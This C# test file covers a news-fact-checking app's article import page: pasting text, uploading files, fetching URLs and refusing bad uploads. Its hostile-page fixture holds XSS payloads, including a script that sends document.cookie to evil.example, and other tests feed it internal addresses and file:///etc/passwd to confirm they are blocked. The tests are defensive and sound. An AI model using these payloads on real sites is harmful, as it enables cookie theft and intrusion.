using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.RegularExpressions;
using ClaimTracker.Core.Data;
using ClaimTracker.Core.Domain;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace ClaimTracker.Web.Tests.Pages.Articles;

public sealed partial class NewArticleTests(ClaimTrackerWebFactory factory) : IClassFixture<ClaimTrackerWebFactory>
{
    private const string StorySentence = "The port authority said the harbour would reopen on Monday after the storm damage was repaired.";

    /// <summary>A news page as sites publish them: header, navigation, ads, the story, related links, comments, footer.</summary>
    private const string NewsPage = """
        <!DOCTYPE html>
        <html lang="en">
        <head>
          <meta charset="utf-8">
          <title>Harbour to reopen Monday | The Northern Ledger</title>
          <meta property="og:title" content="Harbour to reopen on Monday after storm repairs">
          <meta property="og:site_name" content="The Northern Ledger">
          <meta property="article:published_time" content="2026-03-14T08:30:00Z">
          <meta name="author" content="Ingrid Lindqvist">
          <link rel="canonical" href="https://ledger.example/news/harbour-reopens">
          <script>window.dataLayer = []; function track(){ dataLayer.push(arguments); }</script>
        </head>
        <body>
          <header><a class="logo" href="/">The Northern Ledger</a>
            <nav class="main-nav"><ul><li><a href="/news">News</a></li><li><a href="/business">Business</a></li><li><a href="/sport">Sport</a></li></ul></nav>
          </header>
          <div class="ad ad-leaderboard">Advertisement <a href="https://ads.example/c?1">Cheap flights to Lisbon!</a></div>
          <main>
            <article>
              <h1>Harbour to reopen on Monday after storm repairs</h1>
              <p class="byline">By <a rel="author" href="/staff/ingrid">Ingrid Lindqvist</a></p>
              <p>The port authority said the harbour would reopen on Monday after the storm damage was repaired.</p>
              <p>"We have checked every berth twice, and the cranes are safe," harbour master Omar Haddad told reporters on Friday. "Ships can come back."</p>
              <div class="ad ad-inline">Advertisement: <a href="https://ads.example/c?2">Win a cruise</a></div>
              <p>Shipping companies had warned that the closure was costing them about 2 million euros a day, according to the chamber of commerce.</p>
              <p>The mayor, Sofia Alvarez, denied that the city had delayed the repairs, saying contractors had worked through the night since Wednesday.</p>
            </article>
            <aside class="related"><h2>Related stories</h2><ul><li><a href="/a">Storm warning issued for the coast</a></li><li><a href="/b">Ferries cancelled as winds reach 120 km/h</a></li></ul></aside>
          </main>
          <section id="comments" class="comments"><h2>Comments</h2><div class="comment"><p>Finally! Took them long enough, a disgrace.</p></div></section>
          <footer>© 2026 The Northern Ledger · <a href="/privacy">Privacy</a></footer>
        </body>
        </html>
        """;

    private const string HostilePage = """
        <!DOCTYPE html>
        <html><head><meta charset="utf-8"><title>Researchers warn of invoice scam</title>
        <script>document.location='https://evil.example/?c='+document.cookie</script></head>
        <body onload="alert('body')">
          <article>
            <h1>Researchers warn of invoice scam</h1>
            <p>Researchers said attackers hid the text &lt;script&gt;alert(1)&lt;/script&gt; in fake invoices sent to thousands of small firms across Europe.</p>
            <p><img src="x" onerror="alert('img')">The police said that nobody had been arrested yet, and that the investigation was continuing in three countries.</p>
            <p><a href="javascript:alert('link')">Click here</a> to read the warning, the agency added, noting that the scam had cost firms at least 4 million dollars.</p>
            <script>alert('inline')</script>
            <p>"Never open an attachment you did not expect," the agency's director, Lena Moreau, told reporters on Thursday afternoon.</p>
          </article>
        </body></html>
        """;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static string Unique(string text) => $"{text}\n\nFiled {Guid.NewGuid():N}.";

    private async Task<HttpClient> ReviewerAsync() => await factory.SignedInAsync(AppRoles.Reviewer);

    private static async Task<HttpResponseMessage> PasteAsync(HttpClient browser, Dictionary<string, string> fields) =>
        await browser.SubmitAsync("/Articles/New", "/Articles/New", fields);

    private static async Task<HttpResponseMessage> UploadAsync(HttpClient browser, string fileName, byte[] content, Dictionary<string, string>? fields = null)
    {
        var page = await browser.GetStringAsync("/Articles/New", Ct);
        using var form = new MultipartFormDataContent
        {
            { new StringContent(BrowserExtensions.AntiforgeryToken(page)), "__RequestVerificationToken" },
        };
        foreach (var (name, value) in fields ?? [])
        {
            form.Add(new StringContent(value), name);
        }

        var file = new ByteArrayContent(content);
        file.Headers.ContentType = new MediaTypeHeaderValue("application/octet-stream");
        form.Add(file, "Upload", fileName);
        return await browser.PostAsync("/Articles/New?handler=Upload", form, Ct);
    }

    private static async Task<string> FollowAsync(HttpClient browser, HttpResponseMessage response)
    {
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        return await browser.GetStringAsync(response.Headers.Location, Ct);
    }

    private static string? InputValue(string html, string name)
    {
        var match = Regex.Match(html, $"""<input[^>]*name="{Regex.Escape(name)}"[^>]*value="([^"]*)"|<input[^>]*value="([^"]*)"[^>]*name="{Regex.Escape(name)}""");
        return match.Success ? WebUtility.HtmlDecode(match.Groups[1].Success ? match.Groups[1].Value : match.Groups[2].Value) : null;
    }

    private static string TextareaValue(string html) =>
        WebUtility.HtmlDecode(TextareaPattern().Match(html).Groups[1].Value);

    [Fact]
    public async Task Reviewer_sees_the_form_with_every_way_in()
    {
        var browser = await ReviewerAsync();

        var html = await browser.GetStringAsync("/Articles/New", Ct);

        Assert.Contains("name=\"Input.Body\"", html, StringComparison.Ordinal);
        Assert.Contains("name=\"Upload\"", html, StringComparison.Ordinal);
        Assert.Contains("name=\"FetchUrl\"", html, StringComparison.Ordinal);
        Assert.Contains("enctype=\"multipart/form-data\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Articles_list_links_to_the_new_article_page()
    {
        var browser = await ReviewerAsync();

        var html = await browser.GetStringAsync("/Articles", Ct);

        Assert.Contains("href=\"/Articles/New\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Pasted_text_is_imported_with_its_metadata_and_claims()
    {
        var browser = await ReviewerAsync();
        var body = Unique("\"We will not raise taxes,\" Finance Minister Maria Okafor said on Monday.\r\nThe opposition said the budget was a fantasy.");

        var response = await PasteAsync(browser, new()
        {
            ["Input.Title"] = "Budget row",
            ["Input.Outlet"] = "Capital Wire",
            ["Input.Byline"] = "Ingrid Lindqvist",
            ["Input.OriginalUrl"] = "https://wire.example/budget",
            ["Input.PublishedAt"] = "2026-03-01",
            ["Input.Body"] = body,
        });

        var html = await FollowAsync(browser, response);
        Assert.Contains("Imported the article with", html, StringComparison.Ordinal);
        var id = int.Parse(response.Headers.Location!.OriginalString.Split('/')[^1], System.Globalization.CultureInfo.InvariantCulture);
        await using var scope = factory.Services.CreateAsyncScope();
        var article = await scope.ServiceProvider.GetRequiredService<ClaimTrackerDbContext>().Articles.Include(a => a.Claims).SingleAsync(a => a.Id == id, Ct);
        Assert.Equal(("Budget row", "Capital Wire", "Ingrid Lindqvist", "https://wire.example/budget"), (article.Title, article.Outlet, article.Byline, article.OriginalUrl));
        Assert.Equal(new DateTime(2026, 3, 1, 0, 0, 0, DateTimeKind.Utc), article.PublishedAt);
        Assert.DoesNotContain('\r', article.Body);
        Assert.NotEmpty(article.Claims);
    }

    [Fact]
    public async Task Pasting_the_same_text_again_opens_the_existing_article_with_a_notice()
    {
        var browser = await ReviewerAsync();
        var body = Unique("Officials said the bridge will reopen in May.");
        var first = await PasteAsync(browser, new() { ["Input.Body"] = body });

        var second = await PasteAsync(browser, new() { ["Input.Body"] = body.Replace("\n", "\r\n", StringComparison.Ordinal), ["Input.Title"] = "Another title" });

        Assert.Equal(first.Headers.Location, second.Headers.Location);
        var html = await FollowAsync(browser, second);
        Assert.Contains("already imported", html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Empty_text_is_refused_and_the_typed_details_are_kept()
    {
        var browser = await ReviewerAsync();

        var response = await PasteAsync(browser, new() { ["Input.Title"] = "My careful title", ["Input.Outlet"] = "Valley Courier", ["Input.Body"] = "   " });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = await response.Content.ReadAsStringAsync(Ct);
        Assert.Contains("Paste the article", html, StringComparison.Ordinal);
        Assert.Equal("My careful title", InputValue(html, "Input.Title"));
        Assert.Equal("Valley Courier", InputValue(html, "Input.Outlet"));
    }

    [Fact]
    public async Task Text_over_the_limit_is_refused_with_the_numbers_and_kept_in_the_form()
    {
        var browser = await ReviewerAsync();
        var body = string.Concat(Enumerable.Repeat("The council said the plan works. ", 31_000));

        var response = await PasteAsync(browser, new() { ["Input.Title"] = "Long one", ["Input.Body"] = body });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = await response.Content.ReadAsStringAsync(Ct);
        Assert.Contains("The article is too long: 1,022,999 characters, the limit is 1,000,000.", html, StringComparison.Ordinal);
        Assert.Equal("Long one", InputValue(html, "Input.Title"));
        Assert.Equal(body.TrimEnd().Length, TextareaValue(html).TrimEnd().Length);
    }

    [Fact]
    public async Task A_non_web_original_address_is_refused()
    {
        var browser = await ReviewerAsync();

        var response = await PasteAsync(browser, new() { ["Input.OriginalUrl"] = "javascript:alert(1)", ["Input.Body"] = Unique("The mayor said the plan works.") });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("must start with http:// or https://", await response.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Uploaded_news_page_fills_the_form_with_the_story_and_its_metadata()
    {
        var browser = await ReviewerAsync();

        var response = await UploadAsync(browser, "harbour.html", Encoding.UTF8.GetBytes(NewsPage.Replace("Sofia Alvarez", $"Sofia Alvarez ({Guid.NewGuid():N})", StringComparison.Ordinal)));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = await response.Content.ReadAsStringAsync(Ct);
        Assert.Contains("Check the text and details, then import.", html, StringComparison.Ordinal);
        Assert.Equal("Harbour to reopen on Monday after storm repairs", InputValue(html, "Input.Title"));
        Assert.Equal("The Northern Ledger", InputValue(html, "Input.Outlet"));
        Assert.Equal("Ingrid Lindqvist", InputValue(html, "Input.Byline"));
        Assert.Equal("https://ledger.example/news/harbour-reopens", InputValue(html, "Input.OriginalUrl"));
        Assert.Equal("2026-03-14", InputValue(html, "Input.PublishedAt"));
        var body = TextareaValue(html);
        Assert.StartsWith(StorySentence, body, StringComparison.Ordinal);
        foreach (var junk in new[] { "Advertisement", "Cheap flights", "Related stories", "Ferries cancelled", "Finally!", "Privacy", "dataLayer", "Sport" })
        {
            Assert.DoesNotContain(junk, body, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task What_was_typed_wins_over_the_metadata_of_an_upload()
    {
        var browser = await ReviewerAsync();

        var response = await UploadAsync(browser, "harbour.htm", Encoding.UTF8.GetBytes(NewsPage.Replace("Omar Haddad", $"Omar Haddad ({Guid.NewGuid():N})", StringComparison.Ordinal)),
            new() { ["Input.Title"] = "Our own headline" });

        var html = await response.Content.ReadAsStringAsync(Ct);
        Assert.Equal("Our own headline", InputValue(html, "Input.Title"));
        Assert.Equal("The Northern Ledger", InputValue(html, "Input.Outlet"));
    }

    [Fact]
    public async Task Uploading_a_text_already_imported_opens_the_existing_article()
    {
        var browser = await ReviewerAsync();
        var body = Unique("Officials said the tunnel will close in June.");
        var first = await PasteAsync(browser, new() { ["Input.Body"] = body });

        var response = await UploadAsync(browser, "tunnel.txt", [.. Encoding.UTF8.GetPreamble(), .. Encoding.UTF8.GetBytes(body.Replace("\n", "\r\n", StringComparison.Ordinal))]);

        Assert.Equal(first.Headers.Location, response.Headers.Location);
        Assert.Contains("already imported", await FollowAsync(browser, response), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Uploaded_word_document_fills_the_text()
    {
        var browser = await ReviewerAsync();
        var sentence = $"The finance minister said the budget would balance by {Guid.NewGuid():N}.";

        var response = await UploadAsync(browser, "budget.docx", Docx("Budget talks", sentence, "\"We will not raise taxes,\" she told reporters."));

        var html = await response.Content.ReadAsStringAsync(Ct);
        Assert.Equal(sentence + "\n\n\"We will not raise taxes,\" she told reporters.", TextareaValue(html).Trim());
        Assert.Equal("Budget talks", InputValue(html, "Input.Title"));
    }

    [Fact]
    public async Task Uploaded_windows_1252_text_is_decoded()
    {
        var browser = await ReviewerAsync();
        System.Text.Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var text = $"The café owner said “prices rose” by 5 € ({Guid.NewGuid():N}).";

        var response = await UploadAsync(browser, "cafe.txt", Encoding.GetEncoding(1252).GetBytes(text));

        Assert.Equal(text, TextareaValue(await response.Content.ReadAsStringAsync(Ct)).Trim());
    }

    public static TheoryData<string, byte[], string> BadFiles => new()
    {
        { "scan.pdf", Encoding.ASCII.GetBytes("%PDF-1.7 whatever"), "scan.pdf is not a supported file type. Use .txt, .md, .html, .htm or .docx." },
        { "photo.txt", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52], "photo.txt looks like a binary file, not text." },
        { "empty.txt", [], "empty.txt is empty." },
        { "blank.md", Encoding.UTF8.GetBytes(" \r\n \n"), "blank.md has no text to import." },
        { "front.html", Encoding.UTF8.GetBytes("<html><body><nav><a href='/a'>News</a> <a href='/b'>Sport</a></nav><ul><li><a href='/c'>Storm warning issued</a></li></ul><footer>© 2026</footer></body></html>"), "front.html has no article body" },
        { "odd.txt", [0x53, 0x61, 0x69, 0x64, 0x20, 0x81, 0x8D, 0x20, 0x6F, 0x6B], "odd.txt is not in a text encoding ClaimTracker can read" },
        { "fake.docx", Encoding.UTF8.GetBytes("not really a word file"), "fake.docx is not a valid Word (.docx) document." },
    };

    [Theory]
    [MemberData(nameof(BadFiles))]
    public async Task Bad_uploads_are_refused_with_a_clear_message_and_the_typed_details_are_kept(string name, byte[] content, string message)
    {
        var browser = await ReviewerAsync();

        var response = await UploadAsync(browser, name, content, new() { ["Input.Title"] = "Kept title", ["Input.Byline"] = "Kept byline" });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync(Ct));
        Assert.Contains(message, html, StringComparison.Ordinal);
        Assert.Equal("Kept title", InputValue(html, "Input.Title"));
        Assert.Equal("Kept byline", InputValue(html, "Input.Byline"));
    }

    [Fact]
    public async Task An_upload_over_the_size_limit_is_refused_with_the_numbers()
    {
        var browser = await ReviewerAsync();

        var response = await UploadAsync(browser, "huge.txt", Encoding.ASCII.GetBytes(new string('a', (5 * 1024 * 1024) + 100)), new() { ["Input.Title"] = "Kept" });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = await response.Content.ReadAsStringAsync(Ct);
        Assert.Contains("huge.txt is too large: 5 MB, the limit is 5 MB.", html, StringComparison.Ordinal);
        Assert.Equal("Kept", InputValue(html, "Input.Title"));
    }

    [Fact]
    public async Task Hostile_html_is_stored_and_shown_as_inert_text()
    {
        var browser = await ReviewerAsync();
        var read = await UploadAsync(browser, "scam.html", Encoding.UTF8.GetBytes(HostilePage.Replace("Lena Moreau", $"Lena Moreau {Guid.NewGuid():N}", StringComparison.Ordinal)));
        var form = await read.Content.ReadAsStringAsync(Ct);
        Assert.DoesNotContain("<script>alert", form, StringComparison.Ordinal);
        var body = TextareaValue(form);
        Assert.Contains("<script>alert(1)</script>", body, StringComparison.Ordinal);

        var response = await browser.PostFormAsync("/Articles/New", new Dictionary<string, string> { ["Input.Body"] = body, ["Input.Title"] = InputValue(form, "Input.Title")! }, BrowserExtensions.AntiforgeryToken(form));
        var html = await FollowAsync(browser, response);

        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>alert", html, StringComparison.Ordinal);
        Assert.DoesNotContain("onerror", html, StringComparison.Ordinal);
        Assert.DoesNotContain("javascript:alert", html, StringComparison.Ordinal);
        Assert.DoesNotContain("document.cookie", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("http://127.0.0.1:9/story", "Refused to fetch 127.0.0.1")]
    [InlineData("http://localhost:9/story", "Refused to fetch localhost")]
    [InlineData("http://[::1]:9/story", "Refused to fetch [::1]")]
    [InlineData("file:///etc/passwd", "http:// or https://")]
    public async Task Fetching_an_internal_or_non_web_address_is_refused(string url, string message)
    {
        var browser = await ReviewerAsync();

        var response = await browser.SubmitAsync("/Articles/New", "/Articles/New?handler=Fetch", new Dictionary<string, string> { ["FetchUrl"] = url, ["Input.Title"] = "Kept" });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync(Ct));
        Assert.Contains(message, html, StringComparison.Ordinal);
        Assert.Equal("Kept", InputValue(html, "Input.Title"));
    }

    [Fact]
    public async Task Fetching_a_page_fills_the_form_when_private_addresses_are_allowed()
    {
        await using var server = await LocalSiteAsync(NewsPage.Replace("Omar Haddad", $"Omar Haddad ({Guid.NewGuid():N})", StringComparison.Ordinal));
        await using var allowing = factory.WithWebHostBuilder(b => b.UseSetting("Import:AllowPrivateAddresses", "true"));
        var email = $"fetch-{Guid.NewGuid():N}@newsroom.test";
        await using (var scope = allowing.Services.CreateAsyncScope())
        {
            await scope.ServiceProvider.GetRequiredService<Core.Users.UserAdministration>().CreateAsync(email, AppRoles.Reviewer, ClaimTrackerWebFactory.Password, null, Ct);
        }

        var browser = allowing.CreateClient(new Microsoft.AspNetCore.Mvc.Testing.WebApplicationFactoryClientOptions { AllowAutoRedirect = false, BaseAddress = new Uri("https://localhost") });
        await browser.SignInAsync(email, ClaimTrackerWebFactory.Password);

        var response = await browser.SubmitAsync("/Articles/New", "/Articles/New?handler=Fetch", new Dictionary<string, string> { ["FetchUrl"] = $"{server.Url}/news/harbour" });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = await response.Content.ReadAsStringAsync(Ct);
        Assert.Equal("Harbour to reopen on Monday after storm repairs", InputValue(html, "Input.Title"));
        Assert.StartsWith(StorySentence, TextareaValue(html), StringComparison.Ordinal);
    }

    private static byte[] Docx(string title, params string[] paragraphs)
    {
        using var stream = new MemoryStream();
        using (var document = DocumentFormat.OpenXml.Packaging.WordprocessingDocument.Create(stream, DocumentFormat.OpenXml.WordprocessingDocumentType.Document))
        {
            var main = document.AddMainDocumentPart();
            main.Document = new DocumentFormat.OpenXml.Wordprocessing.Document(new DocumentFormat.OpenXml.Wordprocessing.Body(
                paragraphs.Select(p => new DocumentFormat.OpenXml.Wordprocessing.Paragraph(new DocumentFormat.OpenXml.Wordprocessing.Run(new DocumentFormat.OpenXml.Wordprocessing.Text(p))))));
            document.PackageProperties.Title = title;
        }

        return stream.ToArray();
    }

    /// <summary>A web site on 127.0.0.1 only, for the one test that may fetch.</summary>
    private static async Task<LocalSite> LocalSiteAsync(string page)
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseKestrel(o => o.Listen(IPAddress.Loopback, 0));
        var app = builder.Build();
        app.MapGet("/news/harbour", () => Results.Content(page, "text/html; charset=utf-8"));
        await app.StartAsync(Ct);
        return new LocalSite(app, app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.Single());
    }

    private sealed record LocalSite(WebApplication App, string Url) : IAsyncDisposable
    {
        public async ValueTask DisposeAsync() => await App.DisposeAsync();
    }

    [GeneratedRegex("""<textarea[^>]*name="Input.Body"[^>]*>\r?\n?([\s\S]*?)</textarea>""")]
    private static partial Regex TextareaPattern();
}
